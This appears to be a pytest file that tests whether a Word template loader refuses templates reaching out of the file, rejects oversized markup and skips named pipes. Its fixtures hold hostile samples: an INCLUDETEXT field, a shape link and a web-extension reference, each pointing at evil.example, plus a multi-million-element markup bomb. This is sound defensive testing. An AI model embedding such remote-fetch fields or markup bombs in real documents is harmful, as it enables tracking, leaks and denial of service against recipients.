"""A template that leads out of its file is refused, however it says so; one that is too heavy is not read."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from slalang.formats.word import template_at
from slalang.formats.word.faults import TemplateReachesOut, TemplateTooLarge, TemplateUnreadable
from tests.formats.test_docx_template import refused, template, with_part

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FETCH = '<w:p><w:r><w:instrText>INCLUDETEXT "http://evil.example/x"</w:instrText></w:r></w:p>'


@pytest.mark.parametrize(
    ("name", "xml"),
    [
        ("word/header9.part", f"<w:hdr {W}>{FETCH}</w:hdr>"),
        ("word/settings2.xml", f'<w:settings {W}><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>'),
        ("word/shape.xml", '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="https://evil.example/"/>'),
        ("word/webextension1.xml", '<we:reference xmlns:we="urn:we" store="https://evil.example/" storeType="EX"/>'),
    ],
)
def test_what_leads_out_of_the_file_is_refused(name: str, xml: str) -> None:
    assert isinstance(refused(with_part(template(), name, xml.encode())), TemplateReachesOut)


def test_a_part_that_is_heavy_with_markup_is_not_read() -> None:
    data = b"<x>" + b"<a/>" * 3_000_000 + b"</x>"
    assert isinstance(refused(with_part(template(), "word/more.xml", data)), TemplateTooLarge)


def test_what_is_no_regular_file_is_not_opened(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.docx"
    os.mkfifo(pipe)
    assert isinstance(template_at(pipe), TemplateUnreadable)
